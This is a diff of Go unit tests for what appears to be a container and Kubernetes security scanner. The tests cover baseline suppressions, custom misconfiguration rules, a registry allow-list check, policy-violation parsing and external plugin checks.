+		data, _ := json.Marshal(struct {
+			Threats    []*threat
+			Containers []*container
+		}{ths, cons})
+		return string(data)
+	}
+
+	sortSeverity(threats)
+	sortContainers(containers)
+	want := encode(threats, containers)
+
+	r := rand.New(rand.NewSource(1))
+	for i := 0; i < 50; i++ {
+		ths := append([]*threat{}, threats...)
+		cons := append([]*container{}, containers...)
+		r.Shuffle(len(ths), func(a, b int) { ths[a], ths[b] = ths[b], ths[a] })
+		r.Shuffle(len(cons), func(a, b int) { cons[a], cons[b] = cons[b], cons[a] })
+
+		sortSeverity(ths)
+		sortContainers(cons)
+
+		if got := encode(ths, cons); got != want {
+			t.Fatalf("order of run %d is changed:\n%s\nwant:\n%s", i, got, want)
+		}
+	}
+
+	if threats[0].Param != "Privileged" || threats[len(threats)-1].Value != "redis:latest" {
+		t.Errorf("sortSeverity() = %s", want)
+	}
+	if containers[0].ContainerID != "aaaaaaaaaaaa" || containers[2].Namepsace != "dev" {
+		t.Errorf("sortContainers() = %s", want)
+	}
+}
+
+func TestBaseline(t *testing.T) {
+	privileged := &threat{Param: "sidecar name: web | privileged", Value: "true", Severity: "critical", Check: "checkPod"}
+	rbac := &threat{Param: "ClusterRoleBinding: admin", Value: "system:anonymous", Severity: "high", Check: "checkRBAC"}
+
+	containers := []*container{
+		{ContainerName: "web", Namepsace: "default", OwnerKind: "Deployment", OwnerName: "web", Threats: []*threat{privileged}},
+		{ContainerName: "nginx", ContainerID: "3f2a9c1b7d4e", Threats: []*threat{{Param: "Privileged", Value: "true", Severity: "critical"}}},
+	}
+
+	b := NewBaseline(containers, []*threat{rbac}, "accepted risk", "2023-06-30")
+	if len(b.Suppressions) != 3 {
+		t.Fatalf("NewBaseline() got %d suppressions, want 3", len(b.Suppressions))
+	}
+
+	filename := filepath.Join(t.TempDir(), "baseline.yaml")
+	if err := b.Save(filename); err != nil {
+		t.Fatalf("Save() error: %v", err)
+	}
+
+	b, err := LoadBaseline(filename)
+	if err != nil {
+		t.Fatalf("LoadBaseline() error: %v", err)
+	}
+
+	if b.Suppressions[0].Justification != "accepted risk" || b.Suppressions[0].Expires != "2023-06-30" {
+		t.Errorf("LoadBaseline() got suppression %+v", b.Suppressions[0])
+	}
+
+	// The recreated container of docker has a new ID, a new finding is reported
+	newFinding := &threat{Param: "sidecar name: web | hostPID", Value: "true", Severity: "high", Check: "checkPod"}
+	rescan := func() ([]*container, []*threat) {
+		return []*container{
+			{ContainerName: "web", Namepsace: "default", OwnerKind: "Deployment", OwnerName: "web",
+				Threats: []*threat{privileged, newFinding}},
+			{ContainerName: "nginx", ContainerID: "8e1d0c6a5b2f", Threats: []*threat{{Param: "Privileged", Value: "true", Severity: "critical"}}},
+		}, []*threat{rbac}
+	}
+
+	cons, configures := rescan()
+	cons, configures, suppressed := b.suppress("", cons, configures, time.Date(2023, 6, 30, 23, 0, 0, 0, time.UTC))
+	if suppressed != 3 || len(configures) != 0 || len(cons) != 1 || len(cons[0].Threats) != 1 || cons[0].Threats[0] != newFinding {
+		t.Errorf("suppress() kept %d containers and %d configures, suppressed %d", len(cons), len(configures), suppressed)
+	}
+
+	// The findings are reported again after the expiry date
+	cons, configures = rescan()
+	_, configures, suppressed = b.suppress("", cons, configures, time.Date(2023, 7, 1, 0, 0, 0, 0, time.UTC))
+	if suppressed != 0 || len(configures) != 1 {
+		t.Errorf("suppress() suppressed %d findings after the expiry", suppressed)
+	}
+
+	if err := os.WriteFile(filename, []byte("suppressions:\n- target: cluster\n  param: x\n  expires: 30/06/2023\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadBaseline(filename); err == nil || !strings.Contains(err.Error(), "invalid expiry date") {
+		t.Errorf("LoadBaseline() error = %v, want the invalid expiry date", err)
+	}
+}
+
+func TestBaselineFromOutput(t *testing.T) {
+	dir := t.TempDir()
+	output := filepath.Join(dir, "output.json")
+
+	clusters := `{"Clusters": [
+  {"Cluster": "prod", "VulnConfigures": [{"Param": "ClusterRoleBinding: admin", "Value": "system:anonymous", "Severity": "high"}]},
+  {"Cluster": "staging", "VulnConfigures": [{"Param": "ClusterRoleBinding: admin", "Value": "system:anonymous", "Severity": "high"}]}
+]}`
+	if err := os.WriteFile(output, []byte(clusters), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	b, err := BaselineFromOutput(output, "", "")
+	if err != nil {
+		t.Fatalf("BaselineFromOutput() error: %v", err)
+	}
+	if len(b.Suppressions) != 2 || b.Suppressions[0].Cluster != "prod" || b.Suppressions[1].Cluster != "staging" {
+		t.Fatalf("BaselineFromOutput() got %+v, want the suppressions keyed by the cluster", b.Suppressions)
+	}
+
+	// The finding of another cluster is not suppressed
+	rbac := &threat{Param: "ClusterRoleBinding: admin", Value: "system:anonymous", Severity: "high"}
+	_, configures, _ := b.suppress("dev", nil, []*threat{rbac}, time.Now())
+	if len(configures) != 1 {
+		t.Errorf("suppress() removed the finding of cluster dev")
+	}
+	_, configures, _ = b.suppress("prod", nil, []*threat{rbac}, time.Now())
+	if len(configures) != 0 {
+		t.Errorf("suppress() kept the finding of cluster prod")
+	}
+
+	redacted := `{"VulnConfigures": [{"Param": "ClusterRoleBinding: ****", "Value": "****:****", "Severity": "high"}]}`
+	if err := os.WriteFile(output, []byte(redacted), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := BaselineFromOutput(output, "", ""); err == nil || !strings.Contains(err.Error(), "redacted") {
+		t.Errorf("BaselineFromOutput() error = %v, want the redacted output rejected", err)
+	}
+}
+
+func TestRules(t *testing.T) {
+	dir := t.TempDir()
+	content := `rules:
+  - id: privilegedExternalImage
+    description: privileged container of the image outside the internal registry
+    severity: High
+    match:
+      all:
+        - field: privileged
+          equals: true
+        - field: image
+          prefix: registry.example.com/
+          not: true
+      any:
+        - field: capabilities
+          equals: sys_admin
+        - field: hostPaths
+          contains: docker.sock
+`
+	if err := os.WriteFile(filepath.Join(dir, "rules.yaml"), []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	rules, err := LoadRules([]string{dir})
+	if err != nil || len(rules) != 1 {
+		t.Fatalf("LoadRules() got %d rules, error: %v", len(rules), err)
+	}
+	rule := rules[0]
+
+	privileged := true
+	pod := v1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "default"},
+		Spec: v1.PodSpec{
+			Volumes: []v1.Volume{{Name: "sock",
+				VolumeSource: v1.VolumeSource{HostPath: &v1.HostPathVolumeSource{Path: "/var/run/docker.sock"}}}},
+			InitContainers: []v1.Container{
+				{Name: "setup", Image: "busybox", SecurityContext: &v1.SecurityContext{Privileged: &privileged},
+					VolumeMounts: []v1.VolumeMount{{Name: "sock", MountPath: "/var/run/docker.sock"}}},
+			},
+			Containers: []v1.Container{
+				{Name: "external", Image: "nginx:latest", SecurityContext: &v1.SecurityContext{Privileged: &privileged},
+					VolumeMounts: []v1.VolumeMount{{Name: "sock", MountPath: "/var/run/docker.sock"}}},
+				{Name: "internal", Image: "registry.example.com/team/nginx:latest", SecurityContext: &v1.SecurityContext{Privileged: &privileged},
+					VolumeMounts: []v1.VolumeMount{{Name: "sock", MountPath: "/var/run/docker.sock"}}},
+				{Name: "unprivileged", Image: "nginx:latest",
+					VolumeMounts: []v1.VolumeMount{{Name: "sock", MountPath: "/var/run/docker.sock"}}},
+			},
+		},
+	}
+
+	tlist, err := rule.Run(context.Background(), &NamespaceTarget{Namespace: "default", Pods: []v1.Pod{pod}})
+	if err != nil || len(tlist) != 2 {
+		t.Fatalf("Run() got %d threats, error: %v", len(tlist), err)
+	}
+
+	if tlist[0].Param != "pod: default/web | container: setup" {
+		t.Errorf("Run() got %s, want the init container", tlist[0].Param)
+	}
+	tlist = tlist[1:]
+
+	want := &threat{
+		Param:    "pod: default/web | container: external",
+		Value:    "privileged=true image=nginx:latest hostPaths=/var/run/docker.sock",
+		Type:     "Custom Rule",
+		Describe: "privileged container of the image outside the internal registry",
+		Severity: "high",
+	}
+	if !reflect.DeepEqual(tlist[0], want) {
+		t.Errorf("Run() got %+v, want %+v", tlist[0], want)
+	}
+
+	in := &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{
+			Name:       "/admin",
+			HostConfig: &containertypes.HostConfig{Privileged: true, CapAdd: []string{"SYS_ADMIN"}},
+		},
+		Config: &containertypes.Config{Image: "alpine"},
+	}
+	tlist, _ = rule.Run(context.Background(), in)
+	if len(tlist) != 1 || tlist[0].Param != "privilegedExternalImage" || tlist[0].Value != "privileged=true image=alpine capabilities=SYS_ADMIN" {
+		t.Errorf("Run() got %d threats of docker container", len(tlist))
+	}
+
+	if facts := dockerFacts(in); !reflect.DeepEqual(facts["user"], []string{"0"}) {
+		t.Errorf("dockerFacts() got user %v, want 0 of the default root", facts["user"])
+	}
+
+	nonRoot, uid := true, int64(1000)
+	imageUsers := map[string]string{"nginx:latest": "", "app:1.0": "app"}
+	for _, tt := range []struct {
+		name string
+		pod  v1.Pod
+		want []string
+	}{
+		{name: "root image", pod: v1.Pod{Spec: v1.PodSpec{Containers: []v1.Container{{Image: "nginx:latest"}}}},
+			want: []string{"0"}},
+		{name: "image user", pod: v1.Pod{Spec: v1.PodSpec{Containers: []v1.Container{{Image: "app:1.0"}}}},
+			want: []string{"app"}},
+		{name: "runAsUser", pod: v1.Pod{Spec: v1.PodSpec{SecurityContext: &v1.PodSecurityContext{RunAsUser: &uid},
+			Containers: []v1.Container{{Image: "nginx:latest"}}}}, want: []string{"1000"}},
+		{name: "runAsNonRoot", pod: v1.Pod{Spec: v1.PodSpec{SecurityContext: &v1.PodSecurityContext{RunAsNonRoot: &nonRoot},
+			Containers: []v1.Container{{Image: "nginx:latest"}}}}},
+		{name: "unknown image", pod: v1.Pod{Spec: v1.PodSpec{Containers: []v1.Container{{Image: "redis:7"}}}}},
+	} {
+		facts := podFacts(tt.pod, tt.pod.Spec.Containers[0], imageUsers)
+		if !reflect.DeepEqual(facts["user"], tt.want) {
+			t.Errorf("podFacts() of %s got user %v, want %v", tt.name, facts["user"], tt.want)
+		}
+	}
+
+	for _, tt := range []struct {
+		content string
+		wantErr string
+	}{
+		{"rules:\n  - id: a\n    severity: urgent\n", "unknown severity"},
+		{"rules:\n  - id: a\n    severity: low\n    match:\n      all:\n        - field: ports\n          equals: \"22\"\n", "unknown field 'ports'"},
+		{"rules:\n  - id: a\n    severity: low\n    match:\n      any:\n        - field: image\n", "requires one of"},
+		{"rules:\n  - id: a\n    level: low\n", "field level not found"},
+	} {
+		filename := filepath.Join(t.TempDir(), "rule.yml")
+		if err := os.WriteFile(filename, []byte(tt.content), 0644); err != nil {
+			t.Fatal(err)
+		}
+
+		if _, err := LoadRules([]string{filename}); err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+			t.Errorf("LoadRules() error = %v, want %q", err, tt.wantErr)
+		}
+	}
+}
+
+func TestRegistryRule(t *testing.T) {
+	rule := RegistryRule([]string{"registry.example.com", "docker.io/library/"})
+	if err := rule.validate(); err != nil {
+		t.Fatalf("validate() error = %v", err)
+	}
+
+	pod := v1.Pod{
+		ObjectMeta: metav1.ObjectMeta{Name: "web", Namespace: "default"},
+		Spec: v1.PodSpec{
+			Containers: []v1.Container{
+				{Name: "internal", Image: "registry.example.com/team/nginx:latest"},
+				{Name: "library", Image: "docker.io/library/redis:7"},
+				{Name: "lookalike", Image: "registry.example.com.evil.io/nginx:latest"},
+				{Name: "external", Image: "quay.io/team/nginx:latest"},
+			},
+		},
+	}
+
+	tlist, err := rule.Run(context.Background(), &NamespaceTarget{Namespace: "default", Pods: []v1.Pod{pod}})
+	if err != nil || len(tlist) != 2 {
+		t.Fatalf("Run() got %d threats, error: %v", len(tlist), err)
+	}
+
+	want := []string{
+		"image=registry.example.com.evil.io/nginx:latest",
+		"image=quay.io/team/nginx:latest",
+	}
+	for i, th := range tlist {
+		if th.Value != want[i] || th.Type != "Image Registry" || th.Severity != "medium" {
+			t.Errorf("Run() got %+v, want the value %s", th, want[i])
+		}
+	}
+}
+
+func TestParseViolations(t *testing.T) {
+	output := `{"result": [{"expressions": [{"value": [
+		"image is not signed",
+		{"msg": "web is privileged", "severity": "High", "param": "privileged", "value": "true"}
+	], "text": "data.vesta.deny"}]}]}`
+
+	tlist, err := parseViolations([]byte(output), "container: web")
+	if err != nil {
+		t.Fatalf("parseViolations() error: %v", err)
+	}
+
+	want := []*threat{
+		{Param: "container: web", Type: "Policy Violation", Describe: "image is not signed", Severity: "medium"},
+		{Param: "privileged", Value: "true", Type: "Policy Violation", Describe: "web is privileged", Severity: "high"},
+	}
+	if !reflect.DeepEqual(tlist, want) {
+		t.Errorf("parseViolations() got %+v, want %+v", tlist, want)
+	}
+
+	// The policies defining no violation have no result
+	tlist, err = parseViolations([]byte(`{}`), "container: web")
+	if err != nil || len(tlist) != 0 {
+		t.Errorf("parseViolations() got %d threats, error: %v", len(tlist), err)
+	}
+
+	_, err = parseViolations([]byte(`{"result": [{"expressions": [{"value": true}]}]}`), "container: web")
+	if err == nil {
+		t.Errorf("parseViolations() accepted a boolean rule")
+	}
+}
+
+func TestRegisterDockerCheck(t *testing.T) {
+	defer func(docker []dockerCheck, namespace []namespaceCheck) {
+		dockerChecks, namespaceChecks = docker, namespace
+	}(dockerChecks, namespaceChecks)
+
+	err := RegisterDockerCheck("checkRestartPolicy", func(in *types.ContainerJSON) (bool, []*Threat) {
+		if in.HostConfig.RestartPolicy.Name != "" {
+			return false, nil
+		}
+		return true, []*Threat{{Param: "RestartPolicy", Value: "no", Severity: "low"}}
+	})
+	if err != nil {
+		t.Fatalf("RegisterDockerCheck() error = %v", err)
+	}
+
+	ch := dockerChecks[len(dockerChecks)-1]
+	ok, tlist := ch.run(context.Background(), &Scanner{}, &types.ContainerJSON{
+		ContainerJSONBase: &types.ContainerJSONBase{ID: "0123456789abcdef", HostConfig: &containertypes.HostConfig{}}})
+	if !ok || len(tlist) != 1 || tlist[0].Param != "RestartPolicy" {
+		t.Errorf("docker check of function found %v", tlist)
+	}
+
+	// The function is not a namespace check
+	tlist, _ = namespaceChecks[len(namespaceChecks)-1].custom.Run(context.Background(), &NamespaceTarget{Namespace: "default"})
+	if len(tlist) != 0 {
+		t.Errorf("docker check of function found %v in namespace", tlist)
+	}
+}
+
+func TestPluginCheck(t *testing.T) {
+	dir := t.TempDir()
+	script := `#!/bin/sh
+input=$(cat)
+case "$input" in
+  *'"kind":"namespace"'*) echo '[{"msg": "no ingress class", "severity": "low", "param": "ingress: default/web"}]' ;;
+  *) echo '["container is checked"]' ;;
+esac
+`
+	path := filepath.Join(dir, "checkIngressClass.sh")
+	if err := os.WriteFile(path, []byte(script), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	p, err := NewPluginCheck(path)
+	if err != nil {
+		t.Fatalf("NewPluginCheck() error = %v", err)
+	}
+	if p.Name() != "checkIngressClass" {
+		t.Errorf("Name() = %s, want checkIngressClass", p.Name())
+	}
+
+	tlist, err := p.Run(context.Background(), &NamespaceTarget{Namespace: "default"})
+	want := []*threat{{Param: "ingress: default/web", Type: "Plugin", Describe: "no ingress class", Severity: "low"}}
+	if err != nil || !reflect.DeepEqual(tlist, want) {
+		t.Errorf("Run() got %+v, error: %v", tlist, err)
+	}
+
+	tlist, err = p.Run(context.Background(), &types.ContainerJSON{ContainerJSONBase: &types.ContainerJSONBase{Name: "/web"}})
+	if err != nil || len(tlist) != 1 || tlist[0].Param != "container: web" || tlist[0].Severity != "medium" {
+		t.Errorf("Run() got %+v, error: %v", tlist, err)
+	}
+
+	notExecutable := filepath.Join(dir, "checkNothing")
+	if err := os.WriteFile(notExecutable, []byte(script), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := NewPluginCheck(notExecutable); err == nil {
+		t.Errorf("NewPluginCheck() accepted the file not executable")
+	}
+}
+
+func TestPluginCheckTimeout(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "checkSlow")
+	if err := os.WriteFile(path, []byte("#!/bin/sh\nexec sleep 10\n"), 0755); err != nil {
+		t.Fatal(err)
+	}
+
+	timeout := externalTimeout
+	externalTimeout = 100 * time.Millisecond
+	defer func() { externalTimeout = timeout }()
+
+	p, err := NewPluginCheck(path)
+	if err != nil {
+		t.Fatalf("NewPluginCheck() error = %v", err)
+	}
+
+	start := time.Now()
+	if _, err := p.Run(context.Background(), &NamespaceTarget{Namespace: "default"}); err == nil || !strings.Contains(err.Error(), "timed out") {
+		t.Errorf("Run() error = %v, want the plugin timed out", err)
+	}
+	if time.Since(start) > 5*time.Second {
+		t.Errorf("Run() is not killed at the timeout")
+	}
+}
+
+func TestCheckRootless(t *testing.T) {
+	if ok, _ := checkRootless(true); ok {
+		t.Errorf("checkRootless() should pass the rootless Podman")
+	}
+
+	ok, tlist := checkRootless(false)
+	if !ok || tlist[0].Value != "daemon: podman | rootless: false" {
+		t.Errorf("checkRootless() should flag the Podman of root")
+	}
+}